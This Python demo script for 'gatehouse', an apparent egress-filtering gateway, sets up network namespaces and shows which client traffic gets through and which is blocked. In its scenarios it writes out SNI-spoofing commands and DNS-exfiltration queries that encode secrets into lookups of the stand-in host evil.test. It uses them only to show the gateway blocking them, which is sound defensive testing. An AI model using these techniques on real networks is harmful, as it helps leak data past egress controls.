#!/usr/bin/env python3
"""demo.py: `make demo`. Brings up the end-to-end topology (tests/e2e/topology.py: a client
namespace on an internal network, the gateway running the real gatehouse daemons, an
"internet" namespace with DNS, HTTPS and SMTP servers), runs a short narrated scenario with
real programs in the client namespace, prints what each step did and the audit lines it
produced, and tears everything down.

Usage: sudo make demo   (or: sudo python3 demo/demo.py [--build DIR])
"""

import argparse
import json
import os
import shlex
import shutil
import subprocess
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(HERE)
sys.path.insert(0, os.path.join(REPO, "tests", "e2e"))
sys.path.insert(0, os.path.join(REPO, "tests", "lib"))

import topology as T  # noqa: E402

ALLOWLIST = """\
allow api.example.test 443          # an API the app needs
allow **.cdn.example.test 443       # its static assets, any name below cdn.example.test
allow smtp.mail.test 465,587        # its mail server
route 587 smtp.mail.test:587        # STARTTLS: the first bytes carry no name
"""

WIDTH = 78

# What the demo runs, and the Debian 12 package each comes from (.ci/packages lists them
# too). Checked before anything is built, so a missing one is a sentence, not a traceback.
PROGRAMS = [
    ("ip", "iproute2"),             # namespaces, veths, addresses
    ("ss", "iproute2"),             # waiting for the servers to listen
    ("sysctl", "procps"),           # no forwarding in the namespaces
    ("openssl", "openssl"),         # the test CA and the SNI-spoofing client
    ("dnsmasq", "dnsmasq-base"),    # the internet's DNS server
    ("curl", "curl"),               # HTTPS and SMTP clients
    ("dig", "bind9-dnsutils"),      # DNS lookups
    ("getent", "libc-bin"),         # a glibc lookup
]
MODULES = [("aiosmtpd", "python3-aiosmtpd")]   # the internet's SMTP server


def missing_packages():
    """[(what is missing, Debian package)] for the programs on PATH and the Python modules
    of the interpreter that runs the servers (tests/e2e/topology.py's PYTHON)."""
    out = [(prog, pkg) for prog, pkg in PROGRAMS if shutil.which(prog) is None]
    for mod, pkg in MODULES:
        r = subprocess.run([T.PYTHON, "-c", f"import {mod}"], capture_output=True)
        if r.returncode != 0:
            out.append((f"{T.PYTHON} module {mod}", pkg))
    return out


def out(text=""):
    print(text, flush=True)


def rule(title):
    out()
    out(f"== {title} " + "=" * max(3, WIDTH - len(title) - 4))


class Demo:
    def __init__(self, topo):
        self.t = topo
        self.step_no = 0

    def show_cmd(self, argv):
        shown = " ".join(shlex.quote(a) for a in argv)
        shown = shown.replace(self.t.ca_path, "ca.pem").replace(self.t.workdir + "/", "")
        out(f"  client$ {shown}")

    def run(self, argv, input=None, keep=None, timeout=20, note=None):
        self.show_cmd(argv)
        r = self.t.client(argv, input=input, timeout=timeout)
        text = (r.stdout + r.stderr).rstrip("\n")
        lines = text.splitlines()
        if keep is not None:
            lines = [x for x in lines if keep(x)]
        for x in lines[:12]:
            out(f"    {x}")
        status = "ok" if r.returncode == 0 else f"exit {r.returncode}"
        if note and r.returncode in note:
            status += f": {note[r.returncode]}"
        out(f"    [{status}, {r.elapsed * 1000:.0f} ms]")
        return r

    def audit_since(self, mark, settle=0.4, timeout=3.0):
        """The raw audit lines written since mark, once they stop coming."""
        deadline = time.monotonic() + timeout
        last, stable_since = None, time.monotonic()
        while True:
            now = {d: self._raw(d)[mark[d]:] for d in T.DAEMONS}
            n = sum(len(v) for v in now.values())
            if n != last:
                last, stable_since = n, time.monotonic()
            if (n and time.monotonic() - stable_since >= settle) or time.monotonic() > deadline:
                return now
            time.sleep(0.05)

    def _raw(self, daemon):
        try:
            with open(self.t.audit_path(daemon)) as f:
                return [x for x in f.read().splitlines()]
        except FileNotFoundError:
            return []

    def mark(self):
        return {d: len(self._raw(d)) for d in T.DAEMONS}

    def show_audit(self, mark):
        got = self.audit_since(mark)
        if not any(got.values()):
            out("  audit: nothing (no packet reached the gateway)")
            return
        out("  audit:")
        for d in T.DAEMONS:
            for line in got[d]:
                e = json.loads(line)
                e.pop("ts", None)
                e.pop("client_port", None)
                out("    " + json.dumps(e, separators=(",", ":")))

    def step(self, title, why):
        self.step_no += 1
        rule(f"{self.step_no}. {title}")
        for x in why.splitlines():
            out(f"  {x}")
        out()
        return self.mark()


def scenario(t):
    d = Demo(t)
    msg = t.path("report.eml")
    with open(msg, "w") as f:
        f.write("From: app@client.test\r\nTo: ops@mail.test\r\nSubject: nightly report\r\n"
                "\r\nall green\r\n")

    m = d.step("An allowed HTTPS fetch",
               "The client resolves api.example.test through gatehouse-resolver (it gets the\n"
               "gateway's address), connects, and curl verifies the real server's certificate:\n"
               "gatehouse-forwarder read the name from the TLS SNI and relayed the bytes.")
    d.run(["curl", "-sS", "--cacert", t.ca_path, "https://api.example.test/v1/status"])
    d.show_audit(m)

    m = d.step("Sending mail: SMTPS on 465 and STARTTLS on 587",
               "Certificate verification on (--ssl-reqd --cacert); the message arrives at the\n"
               "mail server in the internet namespace.")
    n0 = len(t.mails())
    d.run(["curl", "-sS", "--ssl-reqd", "--cacert", t.ca_path, "smtps://smtp.mail.test:465",
           "--mail-from", "app@client.test", "--mail-rcpt", "ops@mail.test", "-T", msg])
    d.run(["curl", "-sS", "--ssl-reqd", "--cacert", t.ca_path, "smtp://smtp.mail.test:587",
           "--mail-from", "app@client.test", "--mail-rcpt", "ops@mail.test", "-T", msg])
    time.sleep(0.3)
    for mail in t.mails()[n0:]:
        out(f"  mail server: message for {', '.join(mail['rcpt_tos'])} on port {mail['port']}"
            f" (tls={mail['tls']}, from {mail['peer'].split(':')[0]}, the gateway)")
    d.show_audit(m)

    m = d.step("A blocked lookup",
               "A name that is not on the allowlist is NXDOMAIN, answered by the gateway at once\n"
               "(glibc with default resolver options; it also tries the search domain).")
    d.run(["getent", "hosts", "evil.test"], note={2: "not found"})
    d.run(["dig", "+noall", "+comments", "evil.test"],
          keep=lambda x: "status:" in x or "EDE" in x)
    d.show_audit(m)

    m = d.step("SNI spoofing",
               "The client reaches the gateway through an allowed name but asks for another host\n"
               "in its TLS ClientHello. The forwarder refuses with a TLS alert and never dials.")
    d.run(["curl", "-sS", "--cacert", t.ca_path, "--connect-to",
           "evil.test:443:api.example.test:443", "https://evil.test/"])
    d.run(["openssl", "s_client", "-brief", "-connect", f"{T.GW_IN4}:443", "-servername",
           "evil.test"], input="", keep=lambda x: "alert" in x or "CONNECT" in x)
    d.show_audit(m)

    m = d.step("DNS exfiltration",
               "Data encoded in a query name never leaves the gateway: gatehouse-resolver\n"
               "answers every lookup itself and forwards nothing.")
    d.run(["dig", "+noall", "+comments", "TXT", "c2VjcmV0.evil.test"],
          keep=lambda x: "status:" in x)
    d.run(["dig", "+noall", "+comments", "+tcp", "A", "cGFzc3dvcmQ9aHVudGVyMg.evil.test"],
          keep=lambda x: "status:" in x)
    d.show_audit(m)

    m = d.step("Going around the gateway",
               "The internal network has no route out: the real server's address is unreachable.")
    d.run(["curl", "-sS", "--max-time", "3", "--cacert", t.ca_path,
           f"https://{T.WEB_ADDR}/"])
    d.run(["dig", "+tries=1", "+time=2", f"@{T.UPSTREAM_DNS}", "api.example.test"],
          keep=lambda x: "error" in x.lower() or "unreachable" in x.lower() or
          "timed out" in x)
    d.show_audit(m)

    rule("What reached the internet")
    names = {}
    for qtype, name, src in t.upstream_queries():
        names.setdefault((name, src), set()).add(qtype)
    out("  queries the internet's DNS server received (it logs every one):")
    for (name, src), types in sorted(names.items()):
        out(f"    {name:<22} {'/'.join(sorted(types)):<7} from {src} (the gateway)")
    blocked = [n for n, _ in names if n.endswith("evil.test")]
    out(f"  queries for evil.test or below: {len(blocked)}")
    hosts = sorted({f"{w['host']} ({w['scheme']})" for w in t.web_requests()})
    out(f"  web requests the servers saw: {', '.join(hosts) or 'none'}")
    out(f"  mails delivered: {len(t.mails())}")


def main():
    ap = argparse.ArgumentParser(description="gatehouse demo in network namespaces")
    ap.add_argument("--build", default=os.path.join(REPO, "build"),
                    help="directory with gatehouse-resolver and gatehouse-forwarder")
    args = ap.parse_args()
    missing = missing_packages()
    if missing:
        pkgs = sorted({pkg for _, pkg in missing})
        sys.stderr.write("make demo needs programs this machine does not have: " +
                         ", ".join(what for what, _ in missing) + ".\n"
                         "Install them (Debian 12): sudo apt-get install " + " ".join(pkgs) +
                         "\n")
    if os.geteuid() != 0:
        sys.stderr.write("make demo needs root: it builds network namespaces (ip netns) and "
                         "runs servers on ports 53, 443, 465 and 587 inside them.\n"
                         "Run it as: sudo make demo\n")
        return 1
    if missing:
        return 1
    reason = T.unavailable_reason()
    if reason:
        sys.stderr.write(f"make demo cannot run here: {reason}\n")
        return 1
    t = T.Topology(args.build, allow=ALLOWLIST)
    try:
        out("gatehouse demo: three network namespaces stand in for a Docker deployment")
        out()
        out(f"  client   {T.CLIENT4:<11} on the internal network only; resolv.conf: "
            f"nameserver {T.GW_IN4}")
        out(f"  gateway  {T.GW_IN4:<11} gatehouse-resolver (53) and gatehouse-forwarder "
            f"(443, 465, 587)")
        out(f"           {T.GW_OUT4:<11} its outside address")
        out(f"  internet {T.INET_RTR4:<11} DNS {T.UPSTREAM_DNS}, HTTPS api.example.test, "
            f"SMTP smtp.mail.test,")
        out("                       evil.test (all real servers, certificates from a test CA)")
        out()
        out("  the allowlist (gatehouse.conf):")
        for line in ALLOWLIST.splitlines():
            out(f"    {line}")
        out()
        out("  starting ...")
        t0 = time.monotonic()
        t.up()
        out(f"  up in {time.monotonic() - t0:.1f} s. Commands below run in the client namespace."
            " Audit lines")
        out("  are printed as the daemons wrote them, less the ts and client_port fields.")
        scenario(t)
        problems = t.daemon_problems()
        if problems:
            out("\n".join(problems))
            return 1
        return 0
    finally:
        t.down()
        out()
        out("torn down: namespaces, veths and processes removed.")


if __name__ == "__main__":
    try:
        sys.exit(main())
    except KeyboardInterrupt:
        sys.stderr.write("interrupted\n")
        sys.exit(130)
